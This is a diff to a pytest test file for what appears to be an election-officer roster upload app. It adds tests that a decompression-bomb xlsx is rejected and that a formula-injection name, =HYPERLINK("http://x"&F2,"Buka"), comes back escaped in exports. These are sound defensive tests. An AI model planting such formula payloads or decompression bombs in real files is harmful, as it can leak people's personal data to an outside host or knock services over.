@@ -9,7 +9,16 @@ from pathlib import Path
 import pytest
 
 from screening.store import officers, regions
-from tests.roster.helpers import CITY, HEADER, good_cells, nik, table, xlsx_bytes
+from tests.roster.helpers import (
+    CITY,
+    HEADER,
+    csv_bytes,
+    good_cells,
+    nik,
+    table,
+    xlsx_bomb,
+    xlsx_bytes,
+)
 
 SIXTEEN_DIGITS = re.compile(r"\d{16}")
 
@@ -281,6 +290,13 @@ def test_a_file_that_is_no_roster_gets_a_plain_message_not_a_500(
     assert 'aria-invalid="true"' in response.text
 
 
+def test_an_xlsx_that_unpacks_to_300_mb_gets_a_plain_message(client, sign_in, city):
+    sign_in("kpu")
+    response = upload(client, xlsx_bomb(300), "petugas.xlsx")
+    assert response.status_code == 422
+    assert "terlalu besar setelah dibuka (lebih dari 50 MB)" in response.text
+
+
 def test_no_file_chosen_is_asked_for(client, sign_in):
     sign_in("kpu")
     response = client.post("/kpu/roster/", data={}, content_type="multipart/form-data")
@@ -311,3 +327,42 @@ def test_no_nik_appears_in_any_url(client, sign_in, city):
     assert urls
     for url in urls:
         assert not SIXTEEN_DIGITS.search(url), url
+
+
+# -- Formulas in the roster come back inert -------------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://x"&F2,"Buka")'
+
+
+def formula_roster() -> bytes:
+    """A CSV (where a formula is plain text) with one good officer and one rejected row whose
+    name is a formula."""
+    return csv_bytes(table([good_cells(9001), good_cells(9003, role="Saksi", name=FORMULA_NAME)]))
+
+
+def test_cli_hands_back_a_formula_name_as_inert_text(runner, db, city, tmp_path):
+    source = _write(tmp_path, formula_roster(), "petugas.csv")
+    result = runner.invoke(args=["roster", "import", str(source), "--dry-run"])
+    assert result.exit_code == 0, result.output
+    rejected = tmp_path / "petugas-ditolak.csv"
+    rows = list(csv.reader(io.StringIO(rejected.read_text("utf-8-sig")), delimiter=";"))
+    assert rows[1][1] == "'" + FORMULA_NAME
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_rejected_rows_download_hands_back_a_formula_name_as_inert_text(
+    client, sign_in, city, kind
+):
+    import openpyxl
+
+    sign_in("kpu")
+    upload(client, formula_roster(), "petugas.csv")
+    response = client.get(f"/kpu/roster/ditolak.{kind}")
+    assert response.status_code == 200
+    if kind == "csv":
+        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
+        assert rows[1][1] == "'" + FORMULA_NAME
+    else:
+        cell = openpyxl.load_workbook(io.BytesIO(response.data)).active["B2"]
+        assert cell.data_type != "f"
+        assert cell.value == "'" + FORMULA_NAME
